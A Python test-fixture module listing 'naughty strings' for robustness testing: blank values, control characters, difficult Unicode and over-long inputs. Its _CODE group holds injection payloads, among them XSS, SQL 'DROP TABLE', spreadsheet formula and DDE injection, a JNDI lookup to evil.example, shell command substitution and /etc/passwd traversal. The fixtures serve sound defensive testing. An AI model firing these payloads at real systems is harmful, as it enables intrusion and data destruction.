"""Strings that break programs: each comes back as it went in, or is refused; never is anything broken by it."""

from __future__ import annotations

from typing import Final

_EMPTY: Final = (
    "",
    " ",
    "   \t ",
    "\u200b",
    "\ufeff",
    "\u00a0\u2003",
    "undefined",
    "null",
    "NaN",
    "true",
    "0",
    "-0",
    "1",
)
_CONTROLS: Final = (
    "nul \x00 inside",
    "\x01\x02\x07\x08\x0b\x0c\x0e\x1b[31m\x1f\x7f",
    "\x80\x85\x9f",
    "line\nbreak\ttab\r\nend\r",
    "\u2028\u2029",
    "\ufdd0 \ufffe \uffff \U0010ffff \ue000 \ufffd",
)
_UNICODE: Final = (
    "half a pair \ud83d",
    "right to left \u202e overridden \u202c\u061c\u200e\u200f",
    "\u2067אבג\u2069 שלום",
    "اَلسَّلَامُ عَلَيْكُمْ ﷽ " + "ﷺ" * 30,
    "zero\u200bwidth\u200cjoin\u200der\u2060s\u00ad",
    "田中さんにあげて下さい 사회과학원 表ポあA鷗ŒéＢ逍Üßªąñ丂㐀𠀀",
    "ภาษาไทยไม่มีช่องว่าง नमस्ते",
    "e\u0301 \u00e9 \u1e9b\u0323 ﬁ Å \u212b İ ı ß ẞ ſ",
    "Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮ " + "e" + "\u0301" * 60,
    "😀👩‍👩‍👧‍👦🏳️‍🌈👍🏿🇩🇪1️⃣ \U000e0067\U000e007f",
    "𝕋𝕙𝕖 ⒬⒰⒤⒞⒦ ℌ ∀∂∈ℝ ₀₁ ½ Ⅷ ١٢٣",
)
_CODE: Final = (
    "<script>alert('x')</script>",
    "\"><img src=x onerror=alert(1)><svg/onload='x'>",
    "&lt;b&gt; &amp; &#0; &nbsp; ]]> <!-- --> <?php ?>",
    "'; DROP TABLE igny8_site; -- \" OR 1=1 %27 \\' `",
    '=HYPERLINK("http://evil.example")',
    "+cmd|' /C calc'!A0",
    "%s %n %(x)s %d {x} {0.__class__} \\ \\u0000 \\x00 %00 %0a",
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %> ${jndi:ldap://evil.example/a}",
    "$(touch /tmp/x) `touch /tmp/x` | ; && > /dev/null",
    "../../../../etc/passwd ..\\..\\windows C:\\con",
    "javascript:alert(1)",
    "https://naughty.example/v1/",
    "http://user:pass@evil.example:99999/?a=b#c",
    '{"$ne": null, "__proto__": {}} [] --- !!python/object',
    "Subject: x\r\nBcc: somebody@evil.example",
    "1e400 0x1F 1,000.00 ١ 1/0 -1 99999999999999999999 Infinity",
)
_LONG: Final = ("x" * 201, "é" * 501, "word " * 1_000, "x" * 30_000)

NAUGHTY: Final = ("plain", " spaces around ", *_EMPTY, *_CONTROLS, *_UNICODE, *_CODE, *_LONG)
